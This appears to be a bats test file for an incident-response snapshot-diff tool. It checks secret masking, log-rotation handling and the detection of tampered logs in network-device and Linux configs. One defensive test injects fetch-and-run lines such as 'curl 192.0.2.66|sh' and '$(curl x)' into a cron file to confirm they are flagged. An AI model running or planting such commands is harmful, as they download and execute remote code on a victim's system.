#!/usr/bin/env bats
# SPDX-License-Identifier: Apache-2.0
# What rules take out of a comparison, and what they must not.
load helpers
load diff
load verify

# two FILE: archives a and b of FILE before and after the function "after".
two() {
	snap a "$@"
	after
	snap b "$@"
}

fortigate() { # ENC1 ENC2 POLICY USER
	cat <<-E
		#config-version=FGT60F-7.2.5-FW-build1517-230606:opmode=0:vdom=0:user=$4
		#conf_file_ver=$RANDOM$RANDOM
		#buildno=1517
		#global_vdom=1
		config system admin
		    edit "admin"
		        set accprofile "super_admin"
		        set password ENC $1
		    next
		end
		config vpn ipsec phase1-interface
		    edit "to-vendor"
		        set psksecret ENC $2
		    next
		end
		config vpn certificate local
		    edit "Fortinet_SSL"
		        set private-key "-----BEGIN ENCRYPTED PRIVATE KEY-----
		$1$2
		-----END ENCRYPTED PRIVATE KEY-----"
		    next
		end
		config firewall policy
		    edit 7
		        set name "vendor"
		        set action $3
		    next
		end
	E
}

@test "FortiOS: secrets encrypted anew are noise" {
	fortigate SH2abc+/= AAbb== accept admin >fgt.conf
	after() { fortigate SH2xyz+/= CCdd== accept backup >fgt.conf; }
	two fgt.conf
	irun 0 ir-diff --json a.tar.zst b.tar.zst
	[ "$(total 'rules."fortios-encrypted"')" = 1 ]
	[ "$(total 'rules."fortios-private-key"')" = 1 ]
	[ "$(total noise)" = 1 ]
	irun 0 ir-diff --json --show-noise a.tar.zst b.tar.zst
	[[ $(jq -r 'select(.type=="noise")|.rules|join(" ")' <<<"$output") == *fortios-header* ]]
	irun 1 ir-diff --json --raw a.tar.zst b.tar.zst
	[[ $output != *SH2* ]]
	[[ $output != *CCdd* ]]
	[[ $output == *'***'* ]]
}

@test "FortiOS: a changed policy is seen among the noise, and nothing else" {
	fortigate SH2abc AAbb accept admin >fgt.conf
	after() { fortigate SH2xyz CCdd deny admin >fgt.conf; }
	two fgt.conf
	irun 1 ir-diff --json -U 0 a.tar.zst b.tar.zst
	[ "$(of fgt.conf '.diff|join("|")')" = "@@ -26,1 +26,1 @@|-        set action accept|+        set action deny" ]
	[[ $(of fgt.conf '.rules|join(" ")') == *fortios-encrypted* ]]
}

cisco() { # TIME PERIOD SECRET
	cat <<-E
		Building configuration...

		Current configuration : 1$2 bytes
		!
		! Last configuration change at $1 JST by netadmin
		! NVRAM config last updated at $1 JST by netadmin
		!
		version 15.2
		hostname core-sw
		enable secret 5 $3
		username vendor privilege 15 secret 9 \$9\$abcdefghij\$klmnop
		snmp-server community hospital-ro RO
		ntp clock-period $2
		end
	E
}

@test "Cisco: clock period and time stamps are noise" {
	cisco "10:20:00 Fri Nov 20 2026" 36028541 '$1$abcd$efghijklm' >run.cfg
	after() { cisco "11:30:00 Sat Nov 21 2026" 36028599 '$1$abcd$efghijklm' >run.cfg; }
	two run.cfg
	irun 0 ir-diff --json a.tar.zst b.tar.zst
	[ "$(total 'rules."cisco-clock-period"')" = 1 ]
	[ "$(total 'rules."cisco-last-change"')" = 1 ]
}

@test "a secret that changed is a difference, and is not shown" {
	cisco now 1 '$1$abcd$oldhashold' >run.cfg
	after() {
		cisco now 1 '$1$abcd$newhashnew' | sed 's/hospital-ro/other-ro/' >run.cfg
	}
	two run.cfg
	irun 1 ir-diff --json a.tar.zst b.tar.zst
	[[ $(of run.cfg '.diff|join("|")') == *"-enable secret ***"*"+enable secret ***"* ]]
	for s in oldhash newhash hospital-ro other-ro klmnop; do
		[[ $output != *$s* ]]
	done
	irun 1 ir-diff --text a.tar.zst b.tar.zst
	for s in oldhash newhash hospital-ro other-ro klmnop; do
		[[ $output != *$s* ]]
	done
}

@test "a secret with blanks in it is masked to its end" {
	said() {
		cat <<-C
			hostname $1
			password my long $2 phrase
			db.password = four $2 words here
			  "api_key": "with $2 blanks", # note
			Passphrase: an: odd=$2 one
			username vendor privilege 15 password 0 blank $2 tail
			connect host=h password=$2 user=someone$1
		C
	}
	said one OLDPART >app.cfg
	after() { said two NEWPART >app.cfg; }
	two app.cfg
	irun 1 ir-diff --json a.tar.zst b.tar.zst
	text=$(of app.cfg '.diff|join("|")')
	echo "$text"
	for s in OLDPART NEWPART my words blanks odd tail; do
		[[ $text != *$s* ]] || fail "$s is shown"
	done
	# what is no secret still is
	[[ $text == *"+hostname two"* ]]
	[[ $text == *"password=*** user=someonetwo"* ]]
}

@test "what a rule takes for a counter in an answer is a difference in a file" {
	{
		echo '* * * * * root uptime > /tmp/x'
		echo 'echo up 1 day'
		echo ': Written by x at noon'
		echo '! Last configuration change at 10:00:00 JST by x'
		echo ' = Timeticks: 1'
		echo '# Cisco'
		echo ' 5 packets x'
	} >cron
	cp cron evil.log.sh
	after() {
		sed -i -e '1s/>.*/\&\& curl 192.0.2.66|sh/' -e '2s/$/; curl x|sh/' \
			-e '3s/noon/$(curl x)/' -e '4s/by x/$(curl x)/' \
			-e '5s/1/$(curl x)/' -e '7s/x/$(curl x)/' cron
		echo 'curl x|sh' >>evil.log.sh
	}
	two cron evil.log.sh
	irun 1 ir-diff --json a.tar.zst b.tar.zst
	[ "$(of cron '.diff|map(select(startswith("+")))|length')" = 6 ]
	[ "$(of evil.log.sh)" = changed ]
}

@test "keys, hashes and words of configuration files are never shown" {
	cat >c <<-'E'
		# settings
		password = "topsecret1"
		db_passwd: topsecret2
		api_key=topsecret3
		{"token": "topsecret4"}
		<Password>topsecret5</Password>
		root:$6$salt$topsecret6topsecret6:19000:0:99999:7:::
		pp auth username user1 topsecret7
		rocommunity topsecret8 default
		wpa_psk=topsecret9
		export DB_PASSWORD=topsecret11
		<Connector keystorePass="topsecret12" port="1"/>
		password = "topsecret13 topsecret14"
		url=postgres://bob:topsecret15@db/x
		Authorization: Bearer topsecret16
		neighbor 192.0.2.1 password 7 topsecret17
		ldap-login-password topsecret18
		AWS_SECRET_ACCESS_KEY=topsecret19
		-----BEGIN OPENSSH PRIVATE KEY-----
		topsecret10
		-----END OPENSSH PRIVATE KEY-----
		end
	E
	after() { sed -i 's/^#.*/# other/; s/^end/END/; s/topsecret/topsecretX/' c; }
	two c
	irun 1 ir-diff --text -U 50 a.tar.zst b.tar.zst
	[[ $output == *"+# other"* ]]
	[[ $output == *"+END"* ]]
	[[ $output != *topsecret* ]]
}

@test "keys between network devices, communities and users are never shown" {
	cat >c <<-'E'
		! settings
		radius-server host 192.0.2.4 auth-port 1812 key topsecret1
		radius server R
		 key 7 topsecret2
		 key topsecret3
		ip ospf message-digest-key 1 md5 topsecret4
		ntp authentication-key 1 md5 topsecret5
		standby 1 authentication topsecret6
		snmp community read-only topsecret7
		snmp host 192.0.2.9 topsecret8
		snmpv3 usm user 1 u sha topsecret9 aes topsecret10
		createUser u SHA topsecret11 AES topsecret12
		com2sec ro default topsecret13
		trap2sink 192.0.2.9 topsecret14
		<property name="connection.password" value="topsecret15"/>
		failover key topsecret16
		key chain K
		 key 1
		end
	E
	cat >fw <<-'E'
		config system snmp community
		    edit 1
		        set name "topsecret1"
		        config hosts
		            edit 1
		                set ip 192.0.2.1
		            next
		        end
		    next
		end
		config system interface
		    edit "wan1"
		        set name "seen1"
		    next
		end
	E
	cat >orthanc.json <<-'E'
		{
		  "Name" : "seen1",
		  "RegisteredUsers" : {
		    // "bob" : "topsecret1",
		    "alice" : "topsecret2", "eve" : "topsecret3"
		  },
		  "OrthancPeers" : {
		    "other" : [ "https://192.0.2.7/", "alice", "topsecret4" ]
		  },
		  "AET" : "seen2"
		}
	E
	after() {
		sed -i 's/^!.*/! other/; s/^end/END/; s/topsecret/topsecretX/' c
		sed -i 's/topsecret/&X/; s/seen/&X/; s/192.0.2.1/192.0.2.2/' fw
		sed -i 's/topsecret/&X/; s/seen/&X/' orthanc.json
	}
	two c fw orthanc.json
	irun 1 ir-diff --text -U 50 a.tar.zst b.tar.zst
	[[ $output != *topsecret* ]]
	# what is no secret still is shown
	for line in '+! other' ' key 1' '+                set ip 192.0.2.2' \
		'+        set name "seenX1"' '+  "Name" : "seenX1",' \
		'+  "AET" : "seenX2"' '"other" : [ "https://192.0.2.7/", "alice", ***'; do
		[[ $output == *"$line"* ]]
	done
	# in a piece without its beginning as well
	irun 1 ir-diff --text -U 0 a.tar.zst b.tar.zst
	[[ $output != *topsecret* ]]
}

lines() { # FROM TO
	seq -f 'Nov 21 10:00:00 pacs01 sshd[%g]: session opened' "$1" "$2"
}

@test "a log that grew is no change" {
	mkdir -p r/var/log
	lines 1 100 >r/var/log/auth.log
	ir-collect -q -r r -o a.tar.zst /var/log >/dev/null
	lines 101 150 >>r/var/log/auth.log
	ir-collect -q -r r -o b.tar.zst /var/log >/dev/null
	irun 0 ir-diff --json a.tar.zst b.tar.zst
	[ "$(total 'rules."growing-log"')" = 1 ]
	chmod 666 r/var/log/auth.log
	irun 1 ir-diff --json --root r a.tar.zst
	[[ $(of /var/log/auth.log '.what|join(" ")') == mode ]]
}

@test "a rotated log is no change, compressed or not" {
	mkdir -p r/var/log
	lines 1 100 >r/var/log/auth.log
	lines 1 50 >r/var/log/old
	mv r/var/log/old r/var/log/auth.log.1
	lines 1 30 | gzip -n >r/var/log/auth.log.2.gz
	lines 1 70 >r/var/log/messages
	ir-collect -q -r r -o a.tar.zst /var/log >/dev/null
	cd r/var/log
	mv auth.log.2.gz auth.log.3.gz
	gzip -n <auth.log.1 >auth.log.2.gz
	lines 101 120 >>auth.log
	mv auth.log auth.log.1
	lines 121 130 >auth.log
	lines 71 80 >>messages
	xz <messages >messages-20261121.xz
	lines 81 82 >messages
	cd ../../..
	ir-collect -q -r r -o b.tar.zst /var/log >/dev/null
	irun 0 ir-diff --json a.tar.zst b.tar.zst
	[ "$(total findings)" = 0 ]
	[ "$(total noise)" -ge 5 ]
	irun 1 ir-diff --json --raw a.tar.zst b.tar.zst
	[ "$(of /var/log/messages)" = changed ]
}

@test "a log that lost its old lines is a finding: emptied, cut, edited, gone" {
	mkdir -p r/var/log
	for f in empty cut edit gone; do lines 1 100 >r/var/log/$f.log; done
	ir-collect -q -r r -o a.tar.zst /var/log >/dev/null
	: >r/var/log/empty.log
	lines 50 100 >r/var/log/cut.log
	sed -i '42s/opened/xxxxxx/' r/var/log/edit.log
	lines 101 110 >>r/var/log/edit.log
	rm r/var/log/gone.log
	ir-collect -q -r r -o b.tar.zst /var/log >/dev/null
	irun 1 ir-diff --json a.tar.zst b.tar.zst
	[ "$(total findings)" = 4 ]
	for f in empty cut edit gone; do
		[ "$(of /var/log/$f.log .finding)" = log-lost-lines ]
	done
	[[ $(of /var/log/edit.log '.diff|join("|")') == *"-Nov 21 10:00:00 pacs01 sshd[42]: session opened"* ]]
	irun 1 ir-diff --text a.tar.zst b.tar.zst
	[[ $output == *"finding: log-lost-lines: changed: /var/log/cut.log"* ]]
}

@test "the oldest rotated file ages out; that one has lines of before is checked" {
	mkdir -p r/var/log
	lines 1 10 >r/var/log/x.log.2
	lines 11 20 >r/var/log/x.log.1
	lines 21 30 >r/var/log/x.log
	ir-collect -q -r r -o a.tar.zst /var/log >/dev/null
	cd r/var/log
	mv x.log.1 x.log.2
	mv x.log x.log.1
	: >x.log
	cd ../../..
	ir-collect -q -r r -o b.tar.zst /var/log >/dev/null
	irun 1 ir-diff --json a.tar.zst b.tar.zst
	[ "$(total findings)" = 0 ]
	[[ $(change .why) == *"oldest file of a rotated log"* ]]
}

@test "a log moved to another name is moved; a new log is added" {
	mkdir -p r/var/log
	lines 1 100 >r/var/log/a.log
	ir-collect -q -r r -o a.tar.zst /var/log >/dev/null
	mv r/var/log/a.log r/var/log/b.log
	lines 1 3 >r/var/log/c.log
	ir-collect -q -r r -o b.tar.zst /var/log >/dev/null
	irun 1 ir-diff --json a.tar.zst b.tar.zst
	[ "$(of /var/log/b.log)" = moved ]
	[ "$(of /var/log/c.log)" = added ]
	[ "$(total findings)" = 0 ]
}

@test "a compressed log that is none is compared as it is" {
	mkdir -p r/var/log
	echo 'no gzip' >r/var/log/x.log.1.gz
	ir-collect -q -r r -o a.tar.zst /var/log >/dev/null
	echo 'other, no gzip' >r/var/log/x.log.1.gz
	ir-collect -q -r r -o b.tar.zst /var/log >/dev/null
	irun 1 ir-diff --json a.tar.zst b.tar.zst
	[ "$(of /var/log/x.log.1.gz .finding)" = log-lost-lines ]
}

@test "logs in bags of others" {
	for b in x y; do
		mkdir -p $b/data/var/log
		printf 'BagIt-Version: 1.0\nTag-File-Character-Encoding: UTF-8\n' >$b/bagit.txt
	done
	lines 1 50 >x/data/var/log/m.log
	lines 1 50 | gzip -n >y/data/var/log/m.log.1.gz
	lines 51 60 >y/data/var/log/m.log
	for b in x y; do
		(cd $b && find data -type f -print0 | xargs -0 sha256sum >manifest-sha256.txt)
		tar czf $b.tgz $b
	done
	irun 0 ir-diff --json x y
	irun 0 ir-diff --json x.tgz y.tgz
	: >y/data/var/log/m.log.1.gz
	(cd y && find data -type f -print0 | xargs -0 sha256sum >manifest-sha256.txt)
	tar czf y.tgz y
	irun 1 ir-diff --json x.tgz y.tgz
	[ "$(total findings)" = 1 ]
}

@test "rules: a broken one names file and line" {
	mkdir t
	snap a t
	rule() { printf 'v: 1\nrules:\n- id: x\n  kind: mask\n  doc: {en: e, ja: j}\n%s\n' "$1" >r.yaml; }
	for bad in "  match: '('" "  match: 'x*'" "  match: '(a)\\1'" "  math: x" \
		"  match: 'a{256}'" "  what: [mtime]"; do
		rule "$bad"
		irun 2 ir-diff --rules r.yaml a.tar.zst a.tar.zst
		[[ $stderr =~ r\.yaml:[36]:[0-9]+:\  ]]
	done
	rule "  match: 'x'"
	irun 0 ir-diff -q --json --rules r.yaml a.tar.zst a.tar.zst
	printf 'v: 2\n' >r.yaml
	irun 2 ir-diff --rules r.yaml a.tar.zst a.tar.zst
	irun 2 ir-diff --rules none.yaml a.tar.zst a.tar.zst
	[[ $stderr == *"cannot open 'none.yaml'"* ]]
}

@test "text: binary, too different, long lines, line ends, last line" {
	mkdir t
	head -c 100 /dev/zero >t/bin
	seq 1 9000 >t/far
	printf 'a\nb\n' >t/crlf
	printf 'a\nb\n' >t/last
	head -c 20000 /dev/zero | tr '\0' x >t/long
	after() {
		printf 1 >>t/bin
		seq 20001 29000 >t/far
		printf 'a\r\nb\r\n' >t/crlf
		printf 'a\nb' >t/last
		echo y >>t/long
	}
	two t
	irun 1 ir-diff --json a.tar.zst b.tar.zst
	[ "$(of t/bin .not_shown)" = "no text" ]
	[ "$(of t/far .not_shown)" = "too different to be shown" ]
	[ "$(of t/crlf '.diff[-1]')" = '+b\015' ]
	[[ $(of t/last .not_shown) == *"last line"* ]]
	[[ $(of t/long '.diff[-1]') == *"20001 bytes, not shown"* ]]
}

@test "counters of the running system are noise" {
	mkdir -p r/proc
	echo "100.00 200.00" >r/proc/uptime
	ir-collect -q -r r -o a.tar.zst /proc >/dev/null
	echo "900.00 300.00" >r/proc/uptime
	ir-collect -q -r r -o b.tar.zst /proc >/dev/null
	irun 0 ir-diff --json a.tar.zst b.tar.zst
	[ "$(total 'rules."running-counters"')" = 1 ]
}

@test "answers of boxes: counters, dates and the whole session are noise" {
	box() { # COUNTER DATE VLAN
		forge "
import re
body = [('data/dialogue/000-session.raw', b'$2 all'),
	('data/dialogue/00$1-show_vlan.txt', b'vlan $3\n'),
	('data/snmp/00$1-walk.txt', b'IF-MIB::ifInOctets.1 = Counter32: $1\n'),
	('data/http/00$1-status.head', b'HTTP/1.1 200 OK\nDate: $2\n')]
build('$1.tar.zst', [(n.encode(), d) for n, d in body],
	objects=lambda t: re.sub(rb'\"path\": ?\"/x\", ?', b'', t))"
	}
	box 1 mon 10
	box 2 tue 10
	irun 0 ir-diff --json 1.tar.zst 2.tar.zst
	[ "$(total noise)" = 3 ]
	box 3 tue 20
	irun 1 ir-diff --json 1.tar.zst 3.tar.zst
	[ "$(change '.item')" = dialogue/show_vlan.txt ]
	[ "$(change '.diff|join(",")')" = '@@ -1,1 +1,1 @@,-vlan 10,+vlan 20' ]
}
